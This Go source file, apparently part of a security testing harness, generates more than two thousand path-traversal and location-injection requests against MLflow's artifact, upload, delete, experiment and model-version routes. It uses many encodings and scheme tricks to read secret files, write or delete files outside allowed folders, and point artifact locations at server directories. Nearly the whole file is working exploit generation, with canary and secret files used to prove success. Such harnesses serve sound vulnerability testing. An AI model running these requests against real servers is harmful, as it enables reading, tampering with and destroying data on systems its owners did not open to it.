package attack

import (
	"encoding/json"
	"fmt"
	"strings"
	"unicode/utf16"
)

// A mutation is one request of a family that differ in spelling only, with what shows that it took effect.
type mutation struct {
	ID   string
	Step Step
	// Then, when the request was answered with less than 400, goes on to the effect: an accepted location is only bad once it is used.
	Then  []Step
	Proof Proof
}

// Mutations spells attacks on MLflow's parameters that name places in as many ways as route × parameter × encoding gives, more than two thousand. Each is an
// attack of its own; those against a vulnerable release that take effect there are the measure of the others.
func Mutations() []*Attack {
	var all []mutation
	all = append(all, readMutations()...)
	all = append(all, writeMutations()...)
	all = append(all, placeMutations()...)
	var out []*Attack
	seen := map[string]bool{}
	for _, m := range all {
		if seen[m.Step.Request] { // where a spelling changes nothing
			continue
		}
		seen[m.Step.Request] = true
		out = append(out, &Attack{ID: "mutation/" + m.ID, Doc: "spells a request in another way", Steps: append([]Step{m.Step}, m.Then...), Proof: m.Proof})
	}
	return out
}

// Prepared are the attacker's own things that mutations are about, made once: an experiment, a run with a file, a model with a version. What they save
// is laid into each run with [Target.Vars].
func Prepared() *Attack {
	return &Attack{
		ID: "mutation/prepared",
		Steps: []Step{experiment(), newRun(), model(),
			put(files+"/${exp}/${run}/artifacts/note.txt", []byte("mine")),
			post(api2+"/model-versions/create", `{"name": "lab-${nonce}", "source": "mlflow-artifacts:/${exp}/${run}/artifacts", "run_id": "${run}"}`).save("version", "model_version.version").save("model", "model_version.name")},
		Proof: Proof{Probe: probe("GET " + api2 + "/runs/get?run_id=${run}"), Shows: "run_id"},
	}
}

// climbs are spellings of "up to the root and down to a file". The target's name is put for FILE: without its leading slash.
var climbs = []string{
	"${up}/FILE", "/FILE", "//FILE", "///FILE", "./${up}/FILE", "a/../${up}/FILE", "./././${up}/FILE", "note.txt/${up}/../FILE",
	"file:///FILE", "file:/FILE", "file://localhost/FILE", "FiLe:///FILE", "file:FILE", "file:///${up}/FILE",
	"..\\..\\..\\..\\..\\..\\..\\..\\FILE", "..\\/..\\/..\\/..\\/..\\/..\\/FILE", "C:/FILE", "C:\\FILE", "\\\\localhost\\FILE", "//localhost/FILE",
	"....//....//....//....//....//....//....//FILE", "..././..././..././..././..././FILE", "..;/..;/..;/..;/..;/..;/FILE", ".;/.;/${up}/FILE",
	"${up}/FILE\x00.txt", "${up}/FILE#", "${up}/FILE?", "x?${up}/FILE", "x#${up}/FILE", "x;${up}/FILE",
	"．．/．．/．．/．．/．．/．．/FILE", "..／..／..／..／..／..／FILE", "‥/‥/‥/‥/‥/‥/FILE",
	"${up}//FILE", "${up}/./FILE", "${up}/FILE/", "${up}/FILE/.", " ${up}/FILE", "${up}/FILE ", "\t${up}/FILE", "~/../../../../FILE",
	"mlflow-artifacts:/${up}/FILE", "runs:/${run}/${up}/FILE", "http:///${up}/FILE",
}

// spelling is a way to write a value into a URL.
type spelling struct {
	name  string
	write func(string) string
}

var spellings = []spelling{
	{"bare", func(s string) string { return filter(s, "space") }},
	{"url", func(s string) string { return filter(s, "url") }},
	{"dots", func(s string) string { return filter(filter(s, "space"), "dots") }},
	{"double", func(s string) string { return filter(filter(s, "url"), "url") }},
	{"double-dots", func(s string) string { return filter(filter(filter(s, "space"), "dots"), "url") }},
	{"triple", func(s string) string { return filter(filter(filter(s, "url"), "url"), "url") }},
	{"overlong", func(s string) string { return filter(filter(s, "space"), "overlong") }},
	{"upper", func(s string) string { return strings.ToUpper(filter("..", "dots")) + "/" + filter(s, "space") }},
	{"wide", func(s string) string { return filter(filter(s, "space"), "wide") }},
}

// place puts a file's variable into a climb.
func place(climb, file string) string { return strings.ReplaceAll(climb, "FILE", "${"+file+"|rel}") }

// readMutations ask every route that gives out a file for one outside.
func readMutations() []mutation {
	routes := []struct{ name, target string }{
		{"get-artifact", "GET /get-artifact?run_id=${run}&path=AT"},
		{"get-artifact-uuid", "GET /get-artifact?run_uuid=${run}&path=AT"},
		{"get-artifact-twice", "GET /get-artifact?run_id=${run}&path=note.txt&path=AT"},
		{"get-artifact-brackets", "GET /get-artifact?run_id=${run}&path%5B%5D=AT"},
		{"version-artifact", "GET /model-versions/get-artifact?name=${model}&version=1&path=AT"},
		{"proxy", "GET /api/2.0/mlflow-artifacts/artifacts/AT"},
		{"proxy-own", "GET /api/2.0/mlflow-artifacts/artifacts/${exp}/${run}/artifacts/AT"},
		{"proxy-ajax", "GET /ajax-api/2.0/mlflow-artifacts/artifacts/AT"},
		{"proxy-slashes", "GET //api//2.0/mlflow-artifacts/artifacts/AT"},
	}
	var out []mutation
	for _, r := range routes {
		for i, c := range climbs {
			for _, w := range spellings {
				at, err := spell(place(c, "secret-file"), w)
				if err != nil {
					continue
				}
				out = append(out, mutation{
					ID:    fmt.Sprintf("%s/%d/%s", r.name, i, w.name),
					Step:  Step{Request: strings.Replace(r.target, "AT", at, 1)},
					Proof: Proof{Answer: "${secret}"},
				})
			}
		}
	}
	return out
}

// spell writes a text with variables: the text itself is spelled now, its variables when they are known.
func spell(text string, w spelling) (string, error) {
	var b strings.Builder
	rest := text
	for {
		i := strings.Index(rest, "${")
		if i < 0 {
			break
		}
		j := strings.IndexByte(rest[i:], '}') + i
		if j < i {
			return "", fmt.Errorf("%q has a variable without an end", text)
		}
		b.WriteString(w.write(rest[:i]))
		b.WriteString(rest[i:j] + spelled[w.name] + "}")
		rest = rest[j+1:]
	}
	b.WriteString(w.write(rest))
	return b.String(), nil
}

// spelled are the filters of variables that do what a spelling does.
var spelled = map[string]string{"url": "|url", "dots": "|dots", "double": "|url|url", "double-dots": "|dots|url", "triple": "|url|url|url", "overlong": "|overlong", "wide": "|wide"}

// writeMutations write and delete through every route that does.
func writeMutations() []mutation {
	routes := []struct {
		name, target, file string
		proof              Proof
	}{
		{"upload", "PUT /api/2.0/mlflow-artifacts/artifacts/AT", "canary-file", Proof{File: "${canary-file}", Holds: "${secret}"}},
		{"upload-own", "PUT /ajax-api/2.0/mlflow-artifacts/artifacts/${exp}/${run}/artifacts/AT", "canary-file", Proof{File: "${canary-file}", Holds: "${secret}"}},
		{"upload-form", "POST /ajax-api/2.0/mlflow/upload-artifact?run_uuid=${run}&path=AT", "canary-file", Proof{File: "${canary-file}", Holds: "${secret}"}},
		{"delete", "DELETE /api/2.0/mlflow-artifacts/artifacts/AT", "prey-dir", Proof{Gone: "${prey-file}"}},
		{"delete-own", "DELETE /api/2.0/mlflow-artifacts/artifacts/${exp}/${run}/artifacts/AT", "prey-dir", Proof{Gone: "${prey-file}"}},
	}
	var out []mutation
	for _, r := range routes {
		for i, c := range climbs {
			for _, w := range spellings {
				at, err := spell(place(c, r.file), w)
				if err != nil {
					continue
				}
				s := Step{Request: strings.Replace(r.target, "AT", at, 1)}
				if !strings.HasPrefix(r.target, "DELETE") {
					s.Request, s.Body = s.Request+"\nContent-Type: application/octet-stream", []byte("${secret}")
				}
				out = append(out, mutation{ID: fmt.Sprintf("%s/%d/%s", r.name, i, w.name), Step: s, Proof: r.proof})
			}
		}
	}
	return out
}

// places are locations and sources outside of what MLflow manages: DIR is a folder of the server with its leading slash.
var places = []string{
	"DIR", "/DIR", "//DIR", "file:DIR", "file://DIR", "file:///DIR", "file://localhostDIR", "file://127.0.0.1DIR", "file://./DIR", "FILE://DIR", "File:DIR",
	"http:///#/${up}DIR", "http:///?/${up}DIR", "http:///;${up}DIR", "http:///;${up|dots}DIR", "https://x/#/${up}DIR", "http://x/api/2.0/mlflow-artifacts/artifacts/${up}DIR",
	"s3:///#/${up}DIR", "s3://b/?/${up}DIR", "gs:///#/${up}DIR", "wasbs:///#/${up}DIR", "dbfs:///#/${up}DIR", "hdfs:///#/${up}DIR", "ftp:///#/${up}DIR",
	"mlflow-artifacts:/${up}DIR", "mlflow-artifacts:///${up}DIR", "mlflow-artifacts://host/${up}DIR", "mlflow-artifacts:///#/${up}DIR", "mlflow-artifacts:/a%3f/../${up}DIR",
	"mlflow-artifacts:/a%23/../${up}DIR", "mlflow-artifacts:/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2eDIR", "mlflow-artifacts:/%252e%252e/%252e%252e/%252e%252e/%252e%252eDIR",
	"mlflow-artifacts:\\..\\..\\..\\..DIR", "mlflow-artifacts:/..%5c..%5c..%5cDIR", "mlflow-artifacts:/${exp}/${run}/artifacts/${up}DIR",
	" DIR", "\tfile:DIR", "fi\nle:DIR", "file:\t//DIR", "file%3A//DIR", "C:DIR", "\\\\localhostDIR", "./${up}DIR", "${up}DIR", "~DIR", "viewfs:DIR", "local:DIR", "file+x:DIR",
	"models:/${up}DIR/1", "runs:/${run}/${up}DIR",
}

// writing is a way to send a JSON object.
type writing struct {
	name string
	head string
	body func(key, camel, value string, others map[string]string) string
}

func object(pairs ...string) string {
	var parts []string
	for i := 0; i+1 < len(pairs); i += 2 {
		parts = append(parts, text(pairs[i])+": "+text(pairs[i+1]))
	}
	return "{" + strings.Join(parts, ", ") + "}"
}

func text(s string) string {
	b, _ := json.Marshal(s)
	// Variables stay variables: json.Marshal leaves "${a}" alone, and writes & < > as escapes that JSON readers undo.
	return string(b)
}

// escaped writes each character of a string outside of variables as a \u escape.
func escaped(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for len(s) > 0 {
		if strings.HasPrefix(s, "${") {
			j := strings.IndexByte(s, '}') + 1
			b.WriteString(s[:j])
			s = s[j:]
			continue
		}
		for _, u := range utf16.Encode([]rune(s[:1])) {
			fmt.Fprintf(&b, `\u%04x`, u)
		}
		s = s[1:]
	}
	b.WriteByte('"')
	return b.String()
}

func flat(key, value string, others map[string]string) []string {
	pairs := []string{}
	for _, k := range []string{"name", "run_id", "experiment_id"} {
		if v := others[k]; v != "" {
			pairs = append(pairs, k, v)
		}
	}
	return append(pairs, key, value)
}

var writings = []writing{
	{"json", "application/json", func(k, _, v string, o map[string]string) string { return object(flat(k, v, o)...) }},
	{"charset", "application/json; charset=utf-8", func(k, _, v string, o map[string]string) string { return object(flat(k, v, o)...) }},
	{"vendor", "application/vnd.api+json", func(k, _, v string, o map[string]string) string { return object(flat(k, v, o)...) }},
	{"plain", "text/plain", func(k, _, v string, o map[string]string) string { return object(flat(k, v, o)...) }},
	{"no-type", "", func(k, _, v string, o map[string]string) string { return " " + object(flat(k, v, o)...) }},
	{"double", "application/json", func(k, _, v string, o map[string]string) string { return text(object(flat(k, v, o)...)) }},
	{"camel", "application/json", func(_, c, v string, o map[string]string) string { return object(flat(c, v, o)...) }},
	{"twice", "application/json", func(k, _, v string, o map[string]string) string {
		return strings.TrimSuffix(object(flat(k, "mlflow-artifacts:/0", o)...), "}") + ", " + text(k) + ": " + text(v) + "}"
	}},
	{"twice-other-name", "application/json", func(k, c, v string, o map[string]string) string {
		return strings.TrimSuffix(object(flat(k, "", o)...), "}") + ", " + text(c) + ": " + text(v) + "}"
	}},
	{"escaped", "application/json", func(k, _, v string, o map[string]string) string {
		rest := strings.TrimPrefix(object(flat("x", "x", o)...), "{")
		rest = rest[:strings.LastIndex(rest, `"x": "x"`)]
		return "{" + rest + text(k) + ": " + escaped(v) + "}"
	}},
	{"escaped-key", "application/json", func(k, _, v string, o map[string]string) string {
		rest := strings.TrimPrefix(object(flat("x", "x", o)...), "{")
		rest = rest[:strings.LastIndex(rest, `"x": "x"`)]
		return "{" + rest + escaped(k) + ": " + text(v) + "}"
	}},
	{"byte-order-mark", "application/json", func(k, _, v string, o map[string]string) string { return "\ufeff" + object(flat(k, v, o)...) }},
}

// placeMutations give experiments and versions a place that they should not have, and go on to use it where that was taken.
func placeMutations() []mutation {
	var out []mutation
	for i, p := range places {
		for _, w := range writings {
			out = append(out, location(i, p, w), source(i, p, w))
		}
	}
	return out
}

func location(i int, p string, w writing) mutation {
	where := strings.ReplaceAll(p, "DIR", "${canary-dir}")
	return mutation{
		ID:   fmt.Sprintf("location/%d/%s", i, w.name),
		Step: typed("POST /api/2.0/mlflow/experiments/create", w.head, w.body("artifact_location", "artifactLocation", where, map[string]string{"name": "lab-m-${nonce}"})).save("mexp", "experiment_id"),
		Then: []Step{
			post(api2+"/runs/create", `{"experiment_id": "${mexp}", "start_time": 1700000000000}`).save("mrun", "run.info.run_id"),
			{Request: "POST " + ajax2 + "/upload-artifact?run_uuid=${mrun}&path=${canary-name}\nContent-Type: text/plain\n\n${secret}"},
			post(api2+"/registered-models/create", `{"name": "lab-m-${nonce}", "description": "${mrun}"}`),
			post(api2+"/model-versions/create", `{"name": "lab-m-${nonce}", "source": "file://${secret-dir}", "run_id": "${mrun}"}`).save("mversion", "model_version.version"),
			get("/model-versions/get-artifact?name=lab-m-${nonce}&version=${mversion}&path=${secret-name}"),
		},
		Proof: Proof{Either: []Proof{{Answer: "${secret}"}, {File: "${canary-dir}/${mrun}/artifacts/${canary-name}", Holds: "${secret}"}}},
	}
}

func source(i int, p string, w writing) mutation {
	where := strings.ReplaceAll(p, "DIR", "${secret-dir}")
	return mutation{
		ID:    fmt.Sprintf("source/%d/%s", i, w.name),
		Step:  typed("POST /api/2.0/mlflow/model-versions/create", w.head, w.body("source", "source", where, map[string]string{"name": "${model}", "run_id": "${run}"})).save("mversion", "model_version.version"),
		Then:  []Step{get("/model-versions/get-artifact?name=${model}&version=${mversion}&path=${secret-name}")},
		Proof: Proof{Answer: "${secret}"},
	}
}

func typed(line, head, body string) Step {
	if head != "" {
		line += "\nContent-Type: " + head
	}
	return Step{Request: line + "\n\n" + body}
}
